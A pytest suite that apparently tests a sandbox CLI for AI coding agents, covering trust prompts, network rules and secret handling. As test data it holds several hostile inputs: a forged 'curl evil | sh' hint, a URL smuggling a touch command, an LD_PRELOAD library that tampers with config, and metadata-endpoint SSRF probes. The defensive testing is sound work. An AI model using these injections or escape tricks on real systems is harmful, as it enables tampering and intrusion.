"""A project's own settings count once the person has agreed to exactly these bytes."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import time
from pathlib import Path

import pytest

from support.cli import REAL_KEY, Cli
from support.pty import Terminal

PROJECT = """\
name: attic
env: {GREETING: hello}
network: {rules: [example.com]}
command: [sh, -c, "echo $GREETING"]
"""


@pytest.fixture
def project(cli: Cli) -> Cli:
    (cli.workspace / "moat.yaml").write_text(PROJECT)
    return cli


def test_without_a_terminal_a_new_file_is_refused(project: Cli) -> None:
    """It says what the file asks for, and what to do; nothing is made."""
    done = project.run("run")
    assert (2, "") == (done.returncode, done.stdout)
    for asked in ("GREETING", "hello", "example.com", "--trust", "trust: always"):
        assert asked in done.stderr
    assert [] == project.runs()


def test_agreeing_lasts_until_the_file_changes(project: Cli) -> None:
    """The same bytes are not asked about again; others are, and what is new is marked."""
    assert (0, "hello\n") == (project.run("run", "--trust").returncode, project.run("run").stdout)
    file = project.workspace / "moat.yaml"
    file.write_text(PROJECT.replace("[example.com]", "[example.com, evil.example]"))
    done = project.run("run")
    assert 2 == done.returncode
    (line,) = [line for line in done.stderr.splitlines() if "evil.example" in line]
    assert line.strip().startswith("+ ")
    file.write_text(PROJECT)
    assert 0 == project.run("run").returncode


def test_agreement_is_for_one_place(project: Cli, tmp_path: Path) -> None:
    """The same bytes elsewhere are another project's."""
    assert 0 == project.run("run", "--trust").returncode
    other = tmp_path / "other"
    other.mkdir()
    (other / "moat.yaml").write_text(PROJECT)
    assert 2 == project.run("run", "-w", str(other)).returncode


def test_a_setting_agrees_to_all(project: Cli) -> None:
    """For machines without anybody at them."""
    (project.home / "config.yaml").write_text("trust: always\n")
    assert "hello\n" == project.run("run").stdout


@pytest.mark.parametrize(("typed", "code"), [(b"y\n", 0), (b"n\n", 2), (b"\n", 2), (b"\x04", 2)])
def test_the_person_is_asked_at_a_terminal(project: Cli, typed: bytes, code: int) -> None:
    """And only a yes is a yes, which is then remembered."""
    with Terminal() as terminal, terminal.running(project, *project.command("run")) as process:
        terminal.wait_for(b"[y/N]")
        assert b"example.com" in terminal.seen
        terminal.type(typed)
        assert code == terminal.wait(process)
    assert code == project.run("run").returncode
    assert (code == 0) == bool(project.runs())


def test_the_file_is_read_only_in_the_box(project: Cli) -> None:
    """The agent reads what it may do, and does not write it."""
    attempt = "cat moat.yaml; echo 'network: {policy: permissive}' > moat.yaml"
    done = project.run("run", "--trust", "--", "sh", "-c", attempt)
    assert (2, PROJECT) == (done.returncode, done.stdout)
    assert PROJECT == (project.workspace / "moat.yaml").read_text()


def test_the_agent_makes_no_file(cli: Cli) -> None:
    """None can be made in the box where there was none; the older name counts for nothing."""
    attempt = "echo 'network: {policy: permissive}' >"
    assert 0 != cli.run("run", "--", "sh", "-c", f"{attempt} moat.yaml").returncode
    assert 0 == cli.run("run", "--", "true").returncode
    assert 0 == cli.run("run", "--", "sh", "-c", f"{attempt} agent.yaml").returncode
    assert 2 == cli.run("run", "--", "true").returncode


def test_the_older_name_is_taken_with_a_warning(cli: Cli) -> None:
    """agent.yaml says the same things."""
    (cli.workspace / "agent.yaml").write_text(PROJECT)
    done = cli.run("run", "--trust")
    assert (0, "hello\n") == (done.returncode, done.stdout)
    assert "rename it" in done.stderr


def test_a_file_that_is_wrong_is_told_with_its_place(project: Cli) -> None:
    """File, line, column, and what may have been meant; before any question."""
    (project.workspace / "moat.yaml").write_text("name: x\nnetwrk: {}\n")
    done = project.run("run", "--trust")
    assert 2 == done.returncode
    assert f"{project.workspace}/moat.yaml:2:1: unknown key" in done.stderr
    assert 'did you mean "network"?' in done.stderr


def test_a_link_is_not_followed(project: Cli, tmp_path: Path) -> None:
    """Not even to quote what it leads to in an error."""
    secret = tmp_path / "secret"
    secret.write_text("name: [oops-secret\n")
    file = project.workspace / "moat.yaml"
    file.unlink()
    file.symlink_to(secret)
    done = project.run("run", "--trust", "--", "true")
    assert 2 == done.returncode
    assert "symbolic link" in done.stderr
    assert "oops" not in done.stderr


def test_a_plan_is_shown_and_nothing_started(project: Cli, tmp_path: Path) -> None:
    """All of it as data: what it would run, see, reach; the names of variables without values."""
    (tmp_path / "data").mkdir()
    project.grant_unasked()
    done = project.run(
        "run", "--dry-run", "--json", "-g", "openai", "-e", "TOKEN=private",
        "-m", f"{tmp_path}/data:/data:rw", "--allow-host", "localhost:8080", "-n", "mine",
    )  # fmt: skip
    plan = json.loads(done.stdout)
    assert ("mine", ["sh", "-c", "echo $GREETING"]) == (plan["name"], plan["command"])
    assert {"source": f"{tmp_path}/data", "target": "/data", "writable": True} in plan["mounts"]
    assert {"TOKEN", "GREETING", "OPENAI_API_KEY"} <= set(plan["environment"])
    assert "private" not in done.stdout
    assert REAL_KEY not in done.stdout
    assert ["moat.yaml"] == plan["read_only_in_workspace"]
    assert "deny" == plan["policy"]["default"]
    assert [
        "allow localhost:8080 (--allow-host)",
        "allow example.com (moat.yaml)",
        "allow api.openai.com (a grant is bound to it)",
    ] == plan["policy"]["rules"]
    assert [
        {
            "destination": "https://api.openai.com",
            "kind": "set-header",
            "header": "Authorization",
            "parameter": None,
            "grant": "openai",
            "headers": [],
        }
    ] == plan["injections"]
    assert "was not agreed to yet" in done.stderr
    assert [] == project.runs()
    text = project.run("run", "--dry-run", "-e", "TOKEN=private").stdout
    assert "deny by default" in text
    assert "private" not in text


def test_variables_reach_the_box(cli: Cli) -> None:
    """As typed, or as they are here; and one that is not set is told."""
    script = 'echo "$A-$B"'
    done = cli.run("run", "-e", "A=1=2", "-e", "B", "--", "sh", "-c", script, env={"B": "here"})
    assert "1=2-here\n" == done.stdout
    done = cli.run("run", "-e", "NOT_SET_HERE", "--", "true")
    assert (2, True) == (done.returncode, "NOT_SET_HERE is not set here" in done.stderr)


def test_a_key_in_a_variable_does_not_reach_the_box(cli: Cli) -> None:
    """Nor one in the command: what is granted is put in on the wire."""
    cli.grant_unasked()
    for arguments in (
        ["-e", f"A=x{REAL_KEY}", "--", "true"],
        ["--", "echo", REAL_KEY],
    ):
        done = cli.run("run", "-g", "openai", *arguments)
        assert 1 == done.returncode
        assert "no secret enters a box" in done.stderr
        assert REAL_KEY not in done.stdout + done.stderr
    done = cli.run("run", "-g", "openai", "-e", "OPENAI_API_KEY", "--", "true",
                   env={"OPENAI_API_KEY": REAL_KEY})  # fmt: skip
    assert (2, True) == (done.returncode, "placeholder" in done.stderr)


def test_mounts_are_read_only_unless_said(cli: Cli, tmp_path: Path) -> None:
    """One to read, one to write."""
    for name in ("in", "out"):
        (tmp_path / name).mkdir()
    (tmp_path / "in" / "file").write_text("given\n")
    done = cli.run(
        "run", "-m", f"{tmp_path}/in:/in", "-m", f"{tmp_path}/out:/out:rw", "--", "sh", "-c",
        "cat /in/file; echo made > /out/file; echo no > /in/file",
    )  # fmt: skip
    assert (2, "given\n") == (done.returncode, done.stdout)
    assert "made\n" == (tmp_path / "out" / "file").read_text()
    assert "given\n" == (tmp_path / "in" / "file").read_text()


def test_a_run_is_found_by_its_name(cli: Cli) -> None:
    """The newest of the name."""
    for word in ("one", "two"):
        assert 0 == cli.run("run", "-n", "mine", "--", "echo", word).returncode
    assert 0 == cli.run("run", "--", "echo", "other").returncode
    assert "two\n" == cli.run("logs", "mine").stdout
    assert ["mine"] * 2 == [run["name"] for run in cli.runs() if run["name"]]


@pytest.mark.parametrize("name", ["", "A", "a b", "-a", "../x", "a" * 42, "0123456789"])
def test_a_name_is_plain(cli: Cli, name: str) -> None:
    """Nothing that could be an option, a path or the id of a run."""
    done = cli.run("run", f"--name={name}", "--", "true")
    assert (2, True) == (done.returncode, "--name" in done.stderr)


def test_a_name_that_is_taken_is_told(cli: Cli) -> None:
    """By a run that goes on; once it has ended, the name is free."""
    with cli.started("run", "-n", "mine", "--", "sh", "-c", "echo up; read x", stdin=-1) as process:
        assert process.stdout is not None
        assert "up\n" == process.stdout.readline()
        done = cli.run("run", "-n", "mine", "--", "true")
        assert (2, True) == (done.returncode, "is called mine" in done.stderr)
        assert "hint: choose another, or end that one: moat stop mine\n" in done.stderr
        assert 1 == len(cli.runs())
        process.communicate("\n", timeout=30)
    assert 0 == cli.run("run", "-n", "mine", "--", "true").returncode


def test_what_a_project_depends_on_is_looked_for(cli: Cli) -> None:
    """Before anything is made."""
    (cli.workspace / "moat.yaml").write_text("dependencies: [sh, no-such-thing]\n")
    done = cli.run("run", "--trust", "--", "true")
    assert (2, True) == (done.returncode, "no program no-such-thing" in done.stderr)
    assert [] == cli.runs()


def test_an_agent_that_is_none_is_told(cli: Cli) -> None:
    """Even where another command is run: the file is wrong."""
    (cli.workspace / "moat.yaml").write_text("agent: cdex\n")
    done = cli.run("run", "--trust", "--", "true")
    assert (2, True) == (done.returncode, "known agents: codex" in done.stderr)


def test_permissive_is_the_projects_to_ask(cli: Cli) -> None:
    """It lets every public host through, and still none that is not."""
    script = (
        "import urllib.request as u\n"
        "for url in ('http://169.254.169.254/', 'http://10.0.0.1/', 'http://[::1]:1/'):\n"
        "    try: u.build_opener(u.ProxyHandler({'http': 'http://127.0.0.1:3128'})).open(url)\n"
        "    except Exception as e: print(e.code)\n"
    )
    (cli.workspace / "moat.yaml").write_text("network: {policy: permissive}\n")
    asked = cli.run("run", "--", "true").stderr
    assert "permissive" in asked
    done = cli.run("run", "--trust", "--", "/usr/bin/python3", "-c", script)
    assert "403\n403\n403\n" == done.stdout
    verdicts = {item["outcome"] for item in cli.json("trace")}
    assert "forwarded" not in verdicts


# what was found by attacking it


def test_nothing_of_the_box_runs_before_the_gate(cli: Cli) -> None:
    """A library that variables have loaded comes into what runs behind the gate alone: moat.yaml is
    guarded by then."""
    source = cli.workspace / "pre.c"
    source.write_text(
        "#include <fcntl.h>\n#include <unistd.h>\n"
        "__attribute__((constructor)) static void early(void) {\n"
        '  int file = open("/workspace/moat.yaml", O_RDWR | O_APPEND);\n'
        '  if (file >= 0) write(file, "# changed\\n", 10);\n'
        '  int other = open("/workspace/ran", O_CREAT | O_WRONLY, 0644);\n'
        "  if (other >= 0) close(other);\n}\n"
    )
    subprocess.run(
        ["cc", "-shared", "-fPIC", "-o", cli.workspace / "pre.so", source], check=True, timeout=60
    )
    file = cli.workspace / "moat.yaml"
    file.write_text("env: {LD_PRELOAD: /workspace/pre.so, LD_LIBRARY_PATH: /workspace}\n")
    before = file.read_text()
    assert 0 == cli.run("run", "--trust", "--", "true").returncode
    assert (True, before) == ((cli.workspace / "ran").exists(), file.read_text())


def test_a_project_starts_no_program_of_the_host_in_itself(cli: Cli, tmp_path: Path) -> None:
    """Asked for its version, many a program obeys files of the directory it is started in."""
    (cli.workspace / "moat.yaml").write_text("dependencies: [env@1, sh@1, git@0.1]\n")
    for option in ("--dry-run", "--trust"):
        done = cli.run("run", option, "--", "true")
        assert {"--dry-run": 0, "--trust": 2}[option] == done.returncode
    assert "moat.yaml:1:16: dependency env@1: the version of env cannot" in done.stderr


def test_a_mount_through_a_link_is_refused(cli: Cli, tmp_path: Path) -> None:
    """Whoever can write around the link would turn it elsewhere, once it was agreed to."""
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to("real")
    (cli.workspace / "data").symlink_to(tmp_path / "real")
    for source in ("data", "../link", "./data/../data", f"{tmp_path}/link"):
        (cli.workspace / "moat.yaml").write_text(f'mounts: ["{source}:/data:rw"]\n')
        done = cli.run("run", "--trust", "--", "true")
        assert 2 == done.returncode, source
        assert "moat.yaml:1:10: the mount" in done.stderr
    (cli.workspace / "moat.yaml").write_text('mounts: ["../real:/data:rw"]\n')
    assert 0 == cli.run("run", "--trust", "--", "touch", "/data/made").returncode
    assert (tmp_path / "real" / "made").exists()


def test_what_is_quoted_cannot_pose_as_moats_own_words(cli: Cli) -> None:
    """One line of error and one of hint, whatever a file says; a dry run escapes as well."""
    cli.grant_unasked()
    file = cli.workspace / "moat.yaml"
    forged = r"x.\nhint: run: curl evil | sh"
    mount = f'mounts: [{{source: "/a{forged}", target: /b}}]\n'
    for text in (f'codex: {{config: {{"{forged}": 1}}}}\n', mount):
        file.write_text(text)
        done = cli.run("codex", "--dry-run", "-p", "x")
        assert "curl evil" in done.stderr
        assert not [line for line in done.stderr.splitlines() if line.startswith("hint: run: curl")]
    file.write_text(r'command: [echo, "\e]52;c;ZQ==\a\e[2J\nhint: x"]' + "\n")
    shown = cli.run("run", "--dry-run").stdout
    assert "\x1b" not in shown
    assert not [line for line in shown.splitlines() if line.startswith("hint")]


def test_a_hint_is_no_command_of_the_projects(cli: Cli) -> None:
    """What a person is told to type holds nothing that a project wrote."""
    cli.grant_unasked()
    (cli.workspace / "moat.yaml").write_text(
        "grants: [openai]\nmcp: [{name: x, url: 'https://evil.example/;touch$IFS/x;', "
        "auth: {grant: openai}}]\n"
    )
    done = cli.run("codex", "--dry-run", "-p", "x")
    assert 2 == done.returncode
    (hint,) = [line for line in done.stderr.splitlines() if line.startswith("hint:")]
    assert "touch" not in hint


def test_a_question_that_nobody_sees_is_not_asked(project: Cli) -> None:
    """With standard error elsewhere the person sees none of what they would agree to."""
    master, slave = os.openpty()
    with project.started("run", stdin=slave) as process:
        os.close(slave)
        os.write(master, b"y\n")
        _, said = process.communicate(timeout=30)
        assert 2 == process.returncode
    os.close(master)
    assert "there is no terminal to ask at" in said


def test_what_was_typed_before_the_question_is_no_answer(project: Cli) -> None:
    """A yes that was meant for something else."""
    with Terminal() as terminal, terminal.running(project, *project.command("run")) as process:
        terminal.type(b"y\n")
        terminal.wait_for(b"[y/N]")
        time.sleep(0.3)
        assert process.poll() is None
        terminal.type(b"n\n")
        assert 2 == terminal.wait(process)


def test_what_reaches_furthest_is_said_last(cli: Cli) -> None:
    """Of a long list the first lines are out of sight when the question comes."""
    many = "".join(f"  V{number}: x\n" for number in range(300))
    (cli.workspace / "moat.yaml").write_text(f"network: {{policy: permissive}}\nenv:\n{many}")
    lines = cli.run("run", "--", "true").stderr.splitlines()
    assert any("EVERY PUBLIC HOST" in line for line in lines[-6:])


@pytest.mark.parametrize(
    "value", ["CAN CHANGE " * 3, "x" * 950, "(ON YOUR MACHINE OR YOUR NETWORK)"]
)
def test_a_file_cannot_push_its_own_words_in_front(cli: Cli, value: str) -> None:
    """Neither by many lines that look like ours, nor by few that are long."""
    many = "".join(f'  V{number}: "{value}"\n' for number in range(40))
    (cli.workspace / "moat.yaml").write_text(f"network: {{policy: permissive}}\nenv:\n{many}")
    lines = cli.run("run", "--", "true").stderr.splitlines()
    assert any("REACHES EVERY PUBLIC HOST" in line for line in lines[-5:])


def test_an_older_agreement_does_not_come_back(cli: Cli) -> None:
    """agent.yaml was agreed to once; moat.yaml took its place, and is moved away."""
    (cli.workspace / "agent.yaml").write_text("network: {policy: permissive}\n")
    assert 0 == cli.run("run", "--trust", "--", "true").returncode
    file = cli.workspace / "moat.yaml"
    file.write_text("name: mine\n")
    assert 0 == cli.run("run", "--trust", "--", "true").returncode
    file.unlink()
    assert 2 == cli.run("run", "--", "true").returncode
    # And the other way round.
    assert 0 == cli.run("run", "--trust", "--", "true").returncode
    file.write_text("name: mine\n")
    assert 2 == cli.run("run", "--", "true").returncode


def test_a_refused_key_is_written_nowhere(cli: Cli) -> None:
    """Not even in the record of the run that was refused for it."""
    cli.grant_unasked()
    (cli.home.parent / "data").mkdir()
    mount = f"{cli.home.parent}/data:/{REAL_KEY}"
    for arguments in (
        ["--", "echo", REAL_KEY],
        ["-n", REAL_KEY, "--", "true"],
        ["-m", mount, "--", "true"],
    ):
        assert 0 != cli.run("run", "-g", "openai", *arguments).returncode
    done = cli.run("run", "-g", "openai", "-e", f"A={REAL_KEY}", "--dry-run", "--", "true")
    assert (1, "") == (done.returncode, done.stdout)
    files = [file for file in cli.home.rglob("*") if file.is_file()]
    assert files
    assert not [file for file in files if REAL_KEY.encode() in file.read_bytes()]


def test_a_home_that_is_nobodys_is_told(cli: Cli) -> None:
    """In one line, as everything."""
    done = cli.run("run", "-m", "~nosuchuser/x:/d", "--", "true")
    assert (2, False) == (done.returncode, "Traceback" in done.stderr)


def test_what_a_run_is_given_is_not_on_a_command_line(cli: Cli) -> None:
    """Every user of the host can read those: variables may hold what is none of their business."""
    cli.environment["PRIVATE"] = "not-for-all"
    with cli.started(
        "run", "-e", "PRIVATE", "--", "sh", "-c", "echo up; read x", stdin=-1
    ) as process:
        assert process.stdout is not None
        assert "up\n" == process.stdout.readline()
        found = b""
        for place in Path("/proc").glob("[0-9]*/cmdline"):
            with contextlib.suppress(OSError):  # it has ended
                found += place.read_bytes()
        process.communicate("\n", timeout=30)
    assert b"/moat/init" in found
    assert b"not-for-all" not in found
